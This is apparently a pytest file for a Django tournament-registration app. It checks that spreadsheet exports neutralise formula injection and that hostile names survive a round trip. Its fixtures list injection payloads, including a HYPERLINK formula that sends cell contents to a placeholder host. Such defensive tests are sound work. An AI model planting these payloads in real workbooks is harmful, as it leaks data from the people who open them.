"""No cell of a workbook the app writes is a formula, however the names in it begin; and an
export imports back name for name (issue 17: formula injection)."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tournaments.models import Entry, Event, Official, Unit
from tournaments.registration.services import EntryForm, PersonForm, register_entries
from tournaments.registration.spreadsheets.export import export_workbook
from tournaments.registration.spreadsheets.imports import import_workbook
from tournaments.registration.spreadsheets.safety import FORMULA_STARTS
from tournaments.registration.spreadsheets.template import template_workbook

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&B5,"点我")'
HOSTILE_UNITS = [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\t=1"]
HOSTILE_PEOPLE = ["=1+1", "+李四", "-张三", "@王五", "\r=1", "=A1", "-", "+", "@"]


@pytest.fixture
def hostile(make_tournament):
    """A tournament whose own name, units, joint team, events and players are all hostile."""
    tournament = make_tournament(name="=SUM(1,2)", one_event_per_person=False)
    units = [
        Unit.objects.create(tournament=tournament, name=name, kind=Unit.Kind.UNION_GROUP)
        for name in HOSTILE_UNITS
    ]
    joint = Unit.objects.create(tournament=tournament, name="=联队()", kind=Unit.Kind.JOINT)
    joint.members.set(units[:2])
    team = Event.objects.create(
        tournament=tournament,
        slug="team",
        name="=团体",
        discipline=Event.Discipline.GUANDAN_TEAM,
        pairs_per_team=3,
        ruleset="anhui2021",
    )
    pairs = Event.objects.create(
        tournament=tournament,
        slug="pairs",
        name="\t=双人",
        discipline=Event.Discipline.GUANDAN_PAIRS,
        ruleset="anhui2021",
    )
    chess = Event.objects.create(
        tournament=tournament, slug="chess", name="\r=象棋", discipline=Event.Discipline.XIANGQI
    )
    people = iter(HOSTILE_PEOPLE * 20)

    def person(unit=""):
        return PersonForm(f"{next(people)}{next(counter)}", "男", unit)

    counter = iter(range(1000))
    register_entries(
        event=team,
        forms=[
            EntryForm(unit=u.name, pairs=[(person(), person()) for _ in range(3)])
            for u in units[2:]
        ],
        organiser=True,
    )
    register_entries(
        event=pairs,
        # The joint team's member units field no pair of their own beside it.
        forms=[EntryForm(unit=u.name, pairs=[(person(), person())]) for u in units[2:]]
        + [EntryForm(unit=joint.name, pairs=[(person(units[0].name), person(units[1].name))])],
        organiser=True,
    )
    register_entries(
        event=chess,
        forms=[
            EntryForm(unit=u.name, player=PersonForm(name, "女"))
            for u, name in zip(units, HOSTILE_PEOPLE, strict=False)
        ],
        organiser=True,
    )
    return tournament


def every_workbook(tournament, client, tmp_path: Path) -> dict[str, bytes]:
    """Every workbook the app writes for the tournament: the functions, the organiser's
    downloads and the export command."""
    organiser = get_user_model().objects.create_user("hostile-organiser")
    Official.objects.create(
        tournament=tournament, name="组织者", role=Official.Role.ORGANISER, user=organiser
    )
    client.force_login(organiser)
    books = {}
    for event in tournament.events.all():
        books[f"template {event.slug}"] = template_workbook(event)
        books[f"export {event.slug}"] = export_workbook(event)
        for name in ("manage:entries-template", "manage:entries-export"):
            response = client.get(reverse(name, args=[tournament.slug, event.slug]))
            assert response.status_code == 200
            books[f"{name} {event.slug}"] = response.content
        path = tmp_path / f"{event.slug}.xlsx"
        call_command("export_entries", tournament.slug, event.slug, str(path), stdout=io.StringIO())
        books[f"export_entries {event.slug}"] = path.read_bytes()
    return books


def looks_like_a_formula(text: str) -> bool:
    # A return is read back as a line feed (XML), so look past leading white space too.
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def test_no_cell_of_any_workbook_the_app_writes_is_a_formula(hostile, client, tmp_path):
    books = every_workbook(hostile, client, tmp_path)
    assert len(books) == 3 * 5
    hostile_cells = 0
    for label, data in books.items():
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/.*\.xml", n)]
            assert len(sheets) == 2, label  # 报名表 and 说明
            for name in sheets:
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
        book = load_workbook(io.BytesIO(data))
        assert book.sheetnames == ["报名表", "说明"]
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (label, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and looks_like_a_formula(cell.value):
                        hostile_cells += 1
                        assert cell.quotePrefix, (label, sheet.title, cell.coordinate, cell.value)
                        assert cell.data_type == "s"
    # The names were really there: titles, the 说明 sheet's unit list, every entry row.
    assert hostile_cells > 100


def test_the_说明_sheet_lists_hostile_unit_names_as_text(hostile):
    event = hostile.events.get(slug="pairs")
    notes = load_workbook(io.BytesIO(template_workbook(event)))["说明"]
    cells = {c.value: c for row in notes.iter_rows() for c in row if c.value}
    stored = list(hostile.units.order_by("id").values_list("name", flat=True))
    for name in stored:
        assert cells[name].data_type == "s"
        assert cells[name].quotePrefix == name.startswith(FORMULA_STARTS)
    assert notes["A1"].value.startswith("=SUM(1,2)") and notes["A1"].quotePrefix


@pytest.mark.parametrize("slug", ["team", "pairs", "chess"])
def test_an_export_of_hostile_names_imports_back_exactly(hostile, slug):
    event = hostile.events.get(slug=slug)

    def people(entries):
        return sorted(
            (e.unit.name, p.unit.name, p.name)
            for e in entries
            for p in (
                [e.player]
                if e.player
                else [x for pair in e.pairs.all() for x in (pair.first, pair.second)]
            )
        )

    def registered():
        return people(Entry.objects.with_people().select_related("unit").filter(event=event))

    before = registered()
    assert any(name.startswith(("-", "+")) for _unit, _own, name in before)
    assert any(unit.startswith(("-", "+", "=", "@")) for unit, _own, _name in before)
    data = export_workbook(event)
    event.entries.all().delete()
    result = import_workbook(event=event, data=data)
    assert result.problems == []
    assert registered() == before
    # And again: what an import wrote exports to the same file content.
    again = load_workbook(io.BytesIO(export_workbook(event)))["报名表"]
    first = load_workbook(io.BytesIO(data))["报名表"]
    assert [[c.value for c in r] for r in again.iter_rows()] == [
        [c.value for c in r] for r in first.iter_rows()
    ]
